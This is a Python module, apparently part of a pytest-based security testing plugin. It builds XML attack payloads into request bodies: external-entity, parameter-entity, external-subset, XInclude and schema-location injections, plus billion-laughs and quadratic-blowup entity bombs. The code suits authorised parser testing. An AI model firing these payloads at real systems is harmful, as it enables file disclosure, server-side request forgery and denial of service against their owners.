"""The tampers that attack an XML reader: entities, external subsets, inclusions.

An entity stands where the message says MARK, else in the first leaf. Those in LEADING lead to the address
that is their argument.
"""

import re
from collections.abc import Callable, Mapping

from pytest_qimen.client.request import DraftRequest

Tamper = Callable[[DraftRequest, str], None]
MARK = b"ENTITY-HERE"
LEADING = ("external-entity", "parameter-entity", "external-subset", "xinclude", "schema-location")
LEAF_TEXT = re.compile(rb">([^<>]*[^<>\s][^<>]*)<")
DECLARATION = re.compile(rb"^<\?xml[^>]*\?>\s*")
_ROOT = re.compile(rb"<([A-Za-z_][\w.]*)>")


def _doctype(declared: str, use: str = "") -> Tamper:
    """Return a DOCTYPE that declares this; MARK, or else the first leaf, becomes `use`.

    `{address}` is the tamper's argument, `{text}` what the leaf held.
    """

    def tamper(made: DraftRequest, address: str) -> None:
        bare = DECLARATION.sub(b"", made.body)
        leaf = LEAF_TEXT.search(bare)
        text = leaf[1].decode() if leaf else ""
        if MARK in bare:
            bare = bare.replace(MARK, use.encode())
        elif use and leaf:
            bare = bare[: leaf.start(1)] + use.encode() + bare[leaf.end(1) :]
        head = declared.replace("{address}", address).replace("{text}", text)
        made.body = f'<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE request {head}>\n'.encode() + bare

    return tamper


def _xinclude(made: DraftRequest, address: str) -> None:
    text = f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="{address}"/>'
    end = made.body.rfind(b"</")
    made.body = made.body[:end] + text.encode() + made.body[end:] if end >= 0 else made.body


def _schema_location(made: DraftRequest, address: str) -> None:
    """Name a schema for the message: a reader that validates might load it."""
    text = f' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{address}"'
    made.body = _ROOT.sub(lambda root: b"<" + root[1] + text.encode() + b">", made.body, count=1)


_LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
ATTACKS: Mapping[str, Tamper] = {
    "doctype": _doctype("[]"),
    "internal-entity": _doctype('[<!ENTITY e "entity">]', "&e;"),
    "entity-as-value": _doctype('[<!ENTITY e "{text}">]', "&e;"),
    "external-entity": _doctype('[<!ENTITY e SYSTEM "{address}">]', "&e;"),
    "parameter-entity": _doctype('[<!ENTITY % p SYSTEM "{address}"> %p;]'),
    "external-subset": _doctype('SYSTEM "{address}"'),
    "billion-laughs": _doctype(f'[<!ENTITY a0 "lol">{_LAUGHS}]', "&a9;"),
    "quadratic": _doctype(f'[<!ENTITY e "{"x" * 50_000}">]', "&e;" * 5_000),
    "xinclude": _xinclude,
    "schema-location": _schema_location,
}
